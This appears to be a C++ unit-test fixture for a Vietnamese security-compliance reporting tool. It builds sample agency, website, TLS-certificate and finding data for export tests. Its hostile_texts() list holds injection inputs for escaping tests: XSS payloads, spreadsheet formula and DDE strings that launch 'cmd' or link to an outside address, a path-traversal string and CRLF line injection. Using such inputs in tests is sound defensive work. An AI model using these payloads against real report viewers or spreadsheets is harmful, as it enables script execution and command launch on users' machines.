#include "tests/unit/exports/sample.h"

#include <cstdlib>
#include <iostream>

namespace attt::tests {
namespace {

using base::Language;
using model::Outcome;
using model::Severity;
using model::SubjectKind;
using reports::Snapshot;

base::Date day(const char* iso) {
    return base::parse_date(iso).value();
}

base::Time noon(const char* iso) {
    return base::start_of_day(day(iso)) + std::chrono::hours(12);
}

base::Catalogue load(Language language) {
    auto texts = base::Catalogue::load(ATTT_SOURCE_DIR "/cli/messages", language);
    if (!texts) {
        std::cerr << base::debug_string(texts.error()) << '\n';
        std::abort();
    }
    return std::move(*texts);
}

model::Agency agency(const char* id, const char* name) {
    model::Agency out;
    out.id = id;
    out.name = name;
    out.tier = "province";
    out.kind = "department";
    return out;
}

model::Website website(const std::string& id, const char* owner, const char* system) {
    model::Website out;
    out.id = id;
    out.url = "https://" + id + ".dongthap.example/";
    out.agency = owner;
    out.system = system;
    out.name = "Trang " + id;
    return out;
}

reports::RuleEntry rule(const char* id, SubjectKind kind, Severity severity, const char* title) {
    reports::RuleEntry out;
    out.id = id;
    out.version = 2;
    out.subject = kind;
    out.theme = "tls";
    out.title = title;
    out.rationale = "Vì sao: người dùng bị cảnh báo.";
    out.remediation = "Gia hạn chứng thư rồi nạp lại máy chủ.";
    out.severity = severity;
    out.basis = {{"Nghị định số 85/2016/NĐ-CP", "Điều 15", "source", true, {}}};
    return out;
}

reports::VerdictEntry verdict(SubjectKind kind, const std::string& subject, const char* owner, const char* rule_id,
                              Outcome outcome, const char* endpoint = "", const char* instance = "") {
    reports::VerdictEntry out;
    out.verdict.subject = {kind, subject};
    out.verdict.rule = rule_id;
    out.verdict.rule_version = 2;
    out.verdict.instance = instance;
    if (*endpoint != '\0') out.verdict.endpoint = model::parse_endpoint(endpoint);
    out.verdict.outcome = outcome;
    out.verdict.severity = Severity::high;
    if (outcome == Outcome::unknown) out.reason = "Chưa đo được: hết thời gian chờ";
    if (outcome != Outcome::unknown) out.observed_at = noon("2023-06-29");
    out.agency = owner;
    return out;
}

reports::FindingEntry finding(SubjectKind kind, const std::string& subject, const char* owner, const char* rule_id,
                              Severity severity, model::FindingState state, const char* due, const char* instance) {
    reports::FindingEntry out;
    model::Finding& finding = out.item.finding;
    finding.key = {{kind, subject}, rule_id, instance};
    finding.id = model::finding_id(finding.key);
    finding.severity = severity;
    finding.episodes = {{1, noon("2023-05-01"), {}, {}}};
    if (state == model::FindingState::verified_fixed) {
        finding.episodes[0].closed = noon("2023-06-29");
        finding.episodes[0].close_kind = model::CloseKind::verified_fixed;
    }
    finding.last_failed = noon("2023-06-29");
    out.item.state = state;
    out.item.subject_name = kind == SubjectKind::website ? "https://" + subject + ".dongthap.example/" : subject;
    out.item.title = "Chứng thư số còn hạn và được trình duyệt tin cậy";
    out.item.rationale = "Trình duyệt chặn người dùng.";
    out.item.remediation = "Gia hạn chứng thư.";
    out.item.requirement = "Chuỗi chứng thư hợp lệ: có";
    out.item.evidence = {{"Chứng thư hết hạn ngày", "01/05/2023"}, {"Lỗi", "đã hết hạn (expired)"}};
    out.item.basis = {{"Nghị định số 85/2016/NĐ-CP", "Điều 15", "source", true, {}}};
    out.agency = owner;
    if (*due != '\0') out.due = day(due);
    out.days_over = out.due && *out.due < day("2023-06-30") ? base::days_between(*out.due, day("2023-06-30")) : 0;
    return out;
}

reports::TargetEntry target(const char* id, const char* number, std::int64_t numerator, std::int64_t denominator,
                            std::int64_t unknown, model::TargetOutcome outcome) {
    reports::TargetEntry out;
    out.id = id;
    out.number = number;
    out.title = "Tỷ lệ trang/cổng thông tin điện tử có chứng thư hợp lệ";
    out.value_text = "100%";
    out.lead = "Sở Thông tin và Truyền thông";
    out.year = 2023;
    out.due = day("2023-12-31");
    out.value = "50%";
    out.outcome = "Chưa đạt";
    out.measured.target = id;
    out.measured.numerator = numerator;
    out.measured.denominator = denominator;
    out.measured.unknown = unknown;
    out.measured.outcome = outcome;
    out.measured.members = {{{SubjectKind::website, "stc"}, "so-tai-chinh", model::Share::not_counted, "fail"},
                            {{SubjectKind::website, "syt"}, "so-y-te", model::Share::counted, ""}};
    return out;
}

void name_subjects(Snapshot& snapshot) {
    for (const model::Agency& each : snapshot.inventory.agencies)
        snapshot.names[{SubjectKind::agency, each.id}] = each.name;
    for (const model::InformationSystem& each : snapshot.inventory.systems)
        snapshot.names[{SubjectKind::system, each.id}] = each.name;
    for (const model::Website& each : snapshot.inventory.websites)
        snapshot.names[{SubjectKind::website, each.id}] = each.url;
    for (const model::Computer& each : snapshot.inventory.computers)
        snapshot.names[{SubjectKind::computer, each.id}] = each.name;
}

Snapshot heading() {
    Snapshot out;
    out.province = "Đồng Tháp";
    out.issuing_office = "Sở Thông tin và Truyền thông";
    out.classification = "Lưu hành nội bộ";
    out.as_of = day("2023-06-30");
    out.made_at = noon("2023-06-30");
    out.rules_hash = std::string(64, 'a');
    out.rules_date = "2023-03-01";
    out.audit_head = std::string(64, 'b');
    out.program_version = "0.0.0";
    out.sources = {"Danh mục tính đến 30/06/2023"};
    return out;
}

void fill(reports::LegalBasis& basis, const std::string& text) {
    basis = {text, text, "source", true, text};
}

}  // namespace

const base::Catalogue& texts_of(Language language) {
    static const base::Catalogue vi = load(Language::vi), en = load(Language::en);
    return language == Language::vi ? vi : en;
}

Snapshot worked_snapshot(Language language) {
    Snapshot out = heading();
    out.language = language;
    out.inventory.agencies = {agency("so-tai-chinh", "Sở Tài chính"), agency("so-y-te", "Sở Y tế")};
    model::InformationSystem system;
    system.id = "cong-stc";
    system.name = "Cổng thông tin Sở Tài chính";
    system.agency = "so-tai-chinh";
    system.kind = "portal";
    system.level = 2;
    system.dossier_state = "approved";
    out.inventory.systems = {system};
    out.inventory.websites = {website("stc", "so-tai-chinh", "cong-stc"), website("syt", "so-y-te", "")};
    model::Computer computer;
    computer.id = "pc-1";
    computer.name = "STC-KETOAN-01";
    computer.agency = "so-tai-chinh";
    out.inventory.computers = {computer};
    name_subjects(out);
    out.seen = {{"stc", noon("2023-06-29")}, {"syt", noon("2023-06-29")}};
    out.rules = {
        rule("certificate.trusted", SubjectKind::website, Severity::critical,
             "Chứng thư số còn hạn và được trình duyệt tin cậy"),
        rule("computer.antivirus", SubjectKind::computer, Severity::high, "Máy tính có phần mềm phòng chống mã độc"),
        rule("tls.no-old", SubjectKind::website, Severity::medium, "Không dùng TLS cũ")};
    out.rules[2].basis.clear();
    out.verdicts = {
        verdict(SubjectKind::website, "stc", "so-tai-chinh", "certificate.trusted", Outcome::fail, "192.0.2.21:443"),
        verdict(SubjectKind::website, "stc", "so-tai-chinh", "tls.no-old", Outcome::fail, "[2001:db8::1]:443",
                "TLSv1.0"),
        verdict(SubjectKind::website, "syt", "so-y-te", "certificate.trusted", Outcome::pass, "192.0.2.22:443"),
        verdict(SubjectKind::website, "syt", "so-y-te", "tls.no-old", Outcome::unknown),
        verdict(SubjectKind::website, "syt", "so-y-te", "retired.rule", Outcome::not_applicable),
        verdict(SubjectKind::computer, "pc-1", "so-tai-chinh", "computer.antivirus", Outcome::fail)};
    using enum model::FindingState;
    out.findings = {
        finding(SubjectKind::website, "stc", "so-tai-chinh", "certificate.trusted", Severity::critical, regressed,
                "2023-05-15", ""),
        finding(SubjectKind::computer, "pc-1", "so-tai-chinh", "computer.antivirus", Severity::high, fresh,
                "2023-07-15", ""),
        finding(SubjectKind::website, "stc", "so-tai-chinh", "tls.no-old", Severity::medium, accepted, "", "TLSv1.0"),
        finding(SubjectKind::website, "syt", "so-y-te", "tls.no-old", Severity::medium, verified_fixed, "", "TLSv1.0")};
    out.targets = {target("2023.1", "1", 1, 2, 0, model::TargetOutcome::not_met),
                   target("2023.2", "2", 0, 2, 2, model::TargetOutcome::not_met)};
    out.certificates = {{"stc", "192.0.2.21:443", "CN=stc.dongthap.example", noon("2023-05-01")},
                        {"syt", "192.0.2.22:443", "CN=syt.dongthap.example", noon("2024-01-05")}};
    out.due = {
        {base::end_of_day(day("2023-07-20")) - base::Duration(1), true, "due", "yearly.assessment",
         "Kiểm tra, đánh giá định kỳ hằng năm", "Cổng thông tin Sở Tài chính", "cong-stc", "so-tai-chinh",
         "Lần gần nhất: 01/07/2022", "Điều 11, TT 12/2022/TT-BTTTT"},
        {noon("2023-07-01") + std::chrono::hours(3), false, "due", "incident.report", "Báo cáo sự cố", "", "", "", "",
         ""},
        {base::end_of_day(day("2023-01-01")), true, "never_done", "drill", "Diễn tập", "", "", "so-y-te", "", ""}};
    return out;
}

Snapshot empty_snapshot() {
    Snapshot out = heading();
    out.classification.clear();
    return out;
}

Snapshot large_snapshot(int findings) {
    Snapshot out = worked_snapshot();
    out.findings.clear();
    out.inventory.websites.clear();
    for (int i = 0; i < 100; ++i)
        out.inventory.websites.push_back(
            website("trang-" + std::to_string(i), i % 2 == 0 ? "so-tai-chinh" : "so-y-te", ""));
    name_subjects(out);
    for (int i = 0; i < findings; ++i) {
        const std::string instance = "lần-" + std::to_string(i / 100);
        out.findings.push_back(finding(
            SubjectKind::website, "trang-" + std::to_string(i % 100), i % 2 == 0 ? "so-tai-chinh" : "so-y-te",
            "tls.no-old", static_cast<Severity>(i % 5), model::FindingState::open, "2023-07-15", instance.c_str()));
    }
    return out;
}

Snapshot filled_snapshot(const std::string& text, bool ids) {
    Snapshot out = worked_snapshot();
    // only what belongs to the first agency, so that subjects stay apart
    const auto id = [&](std::string& name, const std::string& agency) {
        if (ids && agency == "so-tai-chinh") name = text;
    };
    out.province = out.issuing_office = out.classification = text;
    out.sources = {text};
    for (model::Agency& each : out.inventory.agencies)
        each.name = text;
    for (model::InformationSystem& each : out.inventory.systems)
        each.name = each.owner = each.decision = text;
    for (model::Website& each : out.inventory.websites)
        each.url = each.name = text;
    for (model::Computer& each : out.inventory.computers)
        each.name = each.serial = each.os = text;
    if (ids) {
        out.inventory.agencies[0].id = text;
        out.inventory.systems[0].id = out.inventory.systems[0].agency = text;
        out.inventory.websites[0].id = out.inventory.websites[0].agency = out.inventory.websites[0].system = text;
        out.inventory.computers[0].id = out.inventory.computers[0].agency = text;
        out.seen[text] = out.made_at;
    }
    name_subjects(out);
    for (auto& [subject, name] : out.names)
        name = text;
    for (reports::RuleEntry& each : out.rules) {
        each.title = each.rationale = each.remediation = text;
        for (reports::LegalBasis& basis : each.basis)
            fill(basis, text);
    }
    for (reports::VerdictEntry& each : out.verdicts) {
        each.reason = each.verdict.instance = text;
        id(each.verdict.subject.id, each.agency);
        id(each.agency, each.agency);
    }
    for (reports::FindingEntry& each : out.findings) {
        reports::FindingItem& item = each.item;
        item.subject_name = item.title = item.rationale = item.remediation = item.requirement = text;
        item.finding.unverified_reason = item.finding.work.assignee = item.finding.key.instance = text;
        item.evidence = {{text, text}};
        fill(item.basis[0], text);
        id(item.finding.key.subject.id, each.agency);
        id(each.agency, each.agency);
        item.finding.id = model::finding_id(item.finding.key);
    }
    for (reports::TargetEntry& each : out.targets) {
        each.title = each.value_text = each.lead = each.value = each.number = text;
        each.measured.members = {{{SubjectKind::website, text}, text, model::Share::unknown, text}};
    }
    for (reports::SeenCertificate& each : out.certificates) {
        each.subject = text;
        if (each.website == "stc") id(each.website, "so-tai-chinh");
    }
    for (reports::DueEntry& each : out.due) {
        each.title = each.subject = each.detail = each.basis = text;
        id(each.subject_id, each.agency);
        id(each.agency, each.agency);
    }
    return out;
}

const std::vector<Hostile>& hostile_texts() {
    using namespace std::string_literals;
    static const std::vector<Hostile> all = {
        {"script", "<script>alert(1)</script>"},
        {"end_of_script", "</script><script>alert(1)</script>"},
        {"attribute", "\" onmouseover=\"alert(1)\" x=\""},
        {"single_quote", "' onfocus='alert(1)' autofocus='"},
        {"image", "<img src=x onerror=alert(1)>"},
        {"svg", "<svg/onload=alert(1)>"},
        {"link", "javascript:alert(1)"},
        {"data_link", "data:text/html,<script>alert(1)</script>"},
        {"comment", "--><script>alert(1)</script><!--"},
        {"cdata", "]]><x>&xxe;"},
        {"entity", "&lt;script&gt;&amp;&#x3c;"},
        {"template", "{{{report}}} {{> report.css}} {{&x}}"},
        {"markdown", "![x](http://192.0.2.1/x.png) [x](javascript:alert(1)) `x` **x** | x"},
        {"formula", "=HYPERLINK(\"http://192.0.2.1/\"&A1,\"x\")"},
        {"plus", "+1+cmd|' /C calc'!A0"},
        {"minus", "-2+3+cmd|' /C calc'!A0"},
        {"at", "@SUM(1+1)*cmd|' /C calc'!A0"},
        {"tab", "\t=1+1"},
        {"carriage_return", "\r=1+1"},
        {"line_break", "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\nattt_up{a=\"1\"} 1\n\n# HELP x"},
        {"separators", "a;b,c:d\\e\"f"},
        {"control", "a\x01\x02\x1b[31m\x7f"s},
        {"nul", "a\0b"s},
        {"line_separator",
         "a\xE2\x80\xA8"
         "b\xE2\x80\xA9"
         "c"},
        {"override", "abc\xE2\x80\xAEtxt.exe"},
        {"not_utf8", "a\xFF\xC3(b"},
        {"noncharacter",
         "a\xEF\xBF\xBE\xEF\xBF\xBF"
         "b"},
        {"path", "../../etc/passwd"},
        {"long", std::string(5000, 'x') + " " + std::string(5000, 'y')},
        {"nfd", "So\xCC\x9B\xCC\x89 Ta\xCC\x80i chi\xCC\x81nh"},
        {"blank", "   "},
        {"empty", ""}};
    return all;
}

}  // namespace attt::tests
